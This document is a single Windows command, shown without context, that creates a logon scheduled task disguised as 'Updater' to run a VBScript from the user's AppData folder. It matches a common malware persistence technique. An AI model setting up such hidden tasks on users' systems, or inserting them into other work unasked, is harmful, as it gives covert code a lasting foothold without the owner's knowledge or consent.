schtasks /create /sc onlogon /tn Updater /tr "wscript.exe %APPDATA%\u.vbs"
